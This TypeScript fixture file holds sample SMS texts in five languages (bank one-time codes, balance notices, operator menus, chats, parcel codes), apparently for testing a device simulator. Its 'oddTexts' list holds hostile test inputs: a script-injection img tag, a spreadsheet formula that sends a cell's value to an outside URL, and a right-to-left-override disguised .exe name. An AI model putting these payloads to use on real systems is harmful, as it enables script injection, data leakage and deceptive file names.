import type { Language } from '../device/operators.ts'

type ByLanguage<T> = Readonly<Record<Language, T>>
type Choice<T> = readonly [T, ...T[]]

/** One-time codes, with whom they come from. */
export const codes: ByLanguage<Choice<readonly [from: string, text: string]>> = {
  zh: [
    ['95566', '【北岸银行】您的验证码为{code}，5分钟内有效。如非本人操作，请立即联系客服，切勿将验证码告知他人。'],
    ['106575258192', '【速达】{code}（登录校验码），请勿泄露。'],
    ['95566', '【北岸银行】您尾号0417的账户10月{day}日支出人民币{amount}元，动态口令{code}。'],
  ],
  en: [
    ['NORTHBANK', 'Your Northbank code is {code}. Never share it, not even with us. It expires in 10 minutes.'],
    ['32665', '{code} is your verification code.'],
    ['NORTHBANK', 'Northbank: card ending 0417 was used for {amount}. Not you? Reply NO. One-time passcode {code}'],
  ],
  de: [
    [
      'Nordbank',
      'Ihre TAN lautet {code}. Betrag: {amount} EUR. Geben Sie die TAN niemals weiter, auch nicht für Rückrufe.',
    ],
    ['Paketbote', 'Ihr Bestätigungscode: {code}'],
  ],
  fr: [
    [
      '38600',
      'Votre code de vérification est {code}. Il expire à la fin de votre session. Ne le communiquez à personne.',
    ],
  ],
  es: [['22143', 'Tu código de verificación es {code}. ¡No lo compartas con nadie! Operación: {amount} €']],
}

/** What operators tell of themselves about money and data. */
export const balanceNotices: ByLanguage<Choice<string>> = {
  zh: [
    '【余额提醒】尊敬的客户，您好！截至10月{day}日，您的账户余额为{amount}元，请及时充值，以免影响使用。',
    '尊敬的客户，您本月套餐内流量已使用{amount}GB，剩余流量不足10%。回复“LL”查询详情。',
    '您已成功充值{amount}元，当前可用余额{amount}元。感谢您的支持！',
  ],
  en: [
    'Your balance is {amount}. Top up by day {day} to keep your number.',
    'You have used 90% of your data. Remaining: {amount} MB.',
  ],
  de: [
    'Ihr Guthaben beträgt {amount} EUR und ist gültig bis zum {day}.12. Aufladen: *100#',
    '80 % Ihres Datenvolumens sind verbraucht.',
  ],
  fr: ['Votre crédit est de {amount} € jusqu’au {day}/12. Rechargez au 224.'],
  es: ['Tu saldo es de {amount} €. Recárgalo antes del día {day} para seguir navegando.'],
}

const manyLines = (head: string, lines: readonly string[], tail: string): string =>
  [head, ...lines.map((line, i) => `${i + 1}.${line}`), '', tail].join('\r\n')

/** Texts that no single SMS holds: several parts, put together by the device. */
export const longTexts: ByLanguage<string> = {
  zh: manyLines(
    '尊敬的用户，您好！推荐您使用手机营业厅，免流量服务平台，轻松查询话费、余额及详单；或回复以下数字获取所需的服务：',
    [
      '当月话费查询（截至10月{day}日，已产生{amount}元）；',
      '可用余额：{amount}元；',
      '套餐升级，更多流量，更多通话；',
      '积分及礼品兑换；',
      '账户信息查询、密码重置；',
      '充值及充值记录；',
      '国际漫游及港澳台业务办理；',
      '省份专区、热点活动及优惠购机；',
    ],
    '如需人工服务，请在工作日9:00至18:00拨打客服热线。回复“TD”退订。',
  ),
  en: manyLines(
    'Welcome! Here is what you can do by replying to this message with one of these numbers:',
    [
      'see what this month has cost so far ({amount});',
      'see what is left of your data, minutes and messages;',
      'move to a plan with more of everything, from the first of next month;',
      'change your password, or tell us about a card that was lost;',
      'travel abroad: prices per country, per minute, per message and per megabyte;',
    ],
    'Prices include tax. You can stop these messages at any time; reply STOP, it is free. Your code for the shop is {code}.',
  ),
  de: manyLines(
    'Willkommen! Antworten Sie mit einer Ziffer, um mehr zu erfahren:',
    [
      'Kosten im laufenden Monat ({amount} EUR);',
      'verbleibendes Datenvolumen, Gesprächsminuten und Kurznachrichten;',
      'Wechsel in einen größeren Tarif zum nächsten Monatsersten;',
      'Kennwort ändern oder verlorene Karte melden;',
      'Preise im Ausland, nach Ländern geordnet, für Gespräche, Nachrichten und Daten;',
    ],
    'Alle Preise einschließlich Umsatzsteuer. Abmelden: STOPP. Fragen? Wir sind werktags von 8 bis 20 Uhr für Sie da.',
  ),
  fr: manyLines(
    'Bienvenue ! Répondez par un chiffre pour en savoir plus :',
    [
      'coût du mois en cours ({amount} €) ;',
      'ce qu’il reste de vos données, minutes et messages ;',
      'changer de forfait dès le premier du mois prochain ;',
      'mot de passe oublié, carte perdue ou volée ;',
      'tarifs à l’étranger, pays par pays ;',
    ],
    'Prix toutes taxes comprises. Pour ne plus recevoir ces messages, répondez STOP (gratuit).',
  ),
  es: manyLines(
    '¡Bienvenido! Responde con un número para saber más:',
    [
      'gasto de este mes ({amount} €);',
      'lo que queda de datos, minutos y mensajes;',
      'cambiar de tarifa a partir del día 1;',
      'contraseña olvidada, tarjeta perdida o robada;',
      'precios en el extranjero, país por país;',
    ],
    'Impuestos incluidos. Para no recibir más mensajes responde BAJA, es gratis. ¡Gracias!',
  ),
}

/** What people write to each other. */
export const chats: Choice<string> = [
  'ok',
  '👍',
  'On my way 🚗💨 10 min',
  '到了吗？',
  'See you at 7! 🎉🎂 bring 👨‍👩‍👧‍👦',
  'Can you call me when you have a minute? It is about the antenna on the roof, the one next to the stairs.',
  'Schöne Grüße aus Köln, übermorgen bin ich zurück',
  'مرحبا، هل وصلت؟',
  '¿Dónde estás?\n\nTe espero en la esquina.',
  '明天早上九点在公司楼下见，别忘了带钥匙 🔑',
  'Да, получил. Спасибо 🙏🏽',
]

/** Parcels on their way, and where to fetch them. */
export const parcels: ByLanguage<Choice<string>> = {
  zh: ['【速达快递】您的包裹已到达3号柜，取件码{code}，请于10月{day}日前领取。'],
  en: ['Your parcel arrives on day {day} between 9 and 12. PIN at the door: {code}'],
  de: ['Ihr Paket liegt bereit. Abholcode {code}, bis zum {day}.12.'],
  fr: ['Votre colis est arrivé. Code de retrait : {code}'],
  es: ['Su paquete está en la oficina. Código de recogida: {code}'],
}

/** Texts that are up to something: markup, a formula, a reversed file name, control characters, a blank. */
export const oddTexts: Choice<string> = [
  '<img src=x onerror="alert(1)"><b>You won!</b>',
  '=HYPERLINK("http://example.com/?"&A1,"Click here")',
  'Invoice \u202Efdp.exe\u202C enclosed',
  'Tone\u0007, escape\u001B[31m, NUL\u0000in the middle',
  ' ',
]
